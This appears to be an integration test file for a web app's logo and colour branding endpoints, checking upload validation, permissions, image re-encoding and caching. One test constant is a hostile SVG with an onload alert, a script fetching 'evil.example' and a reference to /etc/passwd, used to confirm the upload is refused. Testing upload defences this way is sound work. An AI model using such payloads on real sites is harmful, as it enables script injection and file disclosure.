/** Branding: which pictures are taken, who may change them, and what everybody sees, also before signing in. */
import sharp from "sharp";

import { Browser, runningApp } from "../support/app.ts";
import { ownDatabase } from "../support/database.ts";
import { signedIn } from "../support/imports.ts";

const own = ownDatabase();
const app = runningApp(own);
let admin: Browser;
let reader: Browser;

beforeAll(async () => {
  admin = new Browser(app.url);
  reader = new Browser(app.url);
  const db = await own.pool.connect();
  await signedIn(db, admin, ["super_admin"]);
  await signedIn(db, reader, ["admin"], "Rita Reader");
  db.release();
});

async function send(browser: Browser, kind: string, body: Buffer | string, headers = {}) {
  const answer = await fetch(`${app.url}/branding/${kind}`, {
    method: "POST",
    body: body as BodyInit,
    headers: {
      Cookie: browser.cookie,
      Origin: app.url,
      "X-Plumbline": "1",
      "Content-Type": "application/octet-stream",
      ...headers,
    },
  });
  const { errors } = await answer.json();
  return { status: answer.status, message: errors?.[0]?.message };
}

const png = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 4, background: "#d00000" } })
    .png()
    .toBuffer();

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="100" height="40" onload="alert(1)">
  <script>fetch("//evil.example")</script><image href="file:///etc/passwd"/></svg>`;

it.each([
  ["a hostile SVG", async () => SVG],
  ["an SVG that says that it is a PNG", async () => `\x89PNG\r\n\x1a\n${SVG}`],
  ["a page", async () => "<html><script>alert(1)</script></html>"],
  ["a picture that is larger than a telephone's", () => png(9_000, 20)],
  ["a picture of 144 million pixels in a small file", () => png(12_000, 12_000)],
  ["a picture one pixel high", () => png(400, 1)],
])("%s is refused in words", async (_, made) => {
  const answer = await send(admin, "logo_light", await made());
  expect(answer).toMatchObject({ status: 400, message: expect.stringContaining("PNG, JPEG or WebP") });
});

it("a logo of 20 MB is refused in words", async () => {
  const answer = await send(admin, "logo_light", Buffer.alloc(20 * 1024 * 1024));
  expect(answer).toEqual({ status: 413, message: "Image must be less than 5MB" });
});

it("only users with full access to the settings may upload", async () => {
  const logo = await png(200, 60);
  expect(await send(reader, "logo_light", logo)).toMatchObject({ status: 403 });
  expect(await send(new Browser(app.url), "logo_light", logo)).toMatchObject({ status: 401 });
  expect(await send(admin, "logo_other", logo)).toMatchObject({ status: 404 });
});

it("everybody sees the re-encoded logo, and asks for it once", async () => {
  expect(await send(admin, "logo_light", await png(2_000, 500))).toMatchObject({ status: 201 });
  const look = await (await fetch(`${app.url}/branding.json`)).json();
  const answer = await fetch(app.url + look.pictures.logo_light);
  expect(answer.headers.get("content-type")).toBe("image/png");
  expect(answer.headers.get("cache-control")).toContain("immutable");
  expect(answer.headers.get("content-security-policy")).toContain("sandbox");
  const { width, height } = await sharp(Buffer.from(await answer.arrayBuffer())).metadata();
  expect({ width, height }).toEqual({ width: 640, height: 160 });
  const again = await fetch(app.url + look.pictures.logo_light, {
    headers: { "If-None-Match": answer.headers.get("etag") ?? "", "Cache-Control": "max-age=0" },
  });
  expect(again.status).toBe(304);
});

it("the colour comes as a stylesheet, and its tag changes with it", async () => {
  const before = await fetch(`${app.url}/branding.css`);
  expect(await before.text()).toBe("");
  await own.pool.query("update app_public.brandings set accent = '#5c2d91'");
  const after = await fetch(`${app.url}/branding.css`);
  const css = await after.text();
  expect(css).toContain("--accent:#5c2d91");
  expect(css).toContain("--chakra-colors-accent-solid:#5c2d91");
  expect(after.headers.get("etag")).not.toBe(before.headers.get("etag"));
});
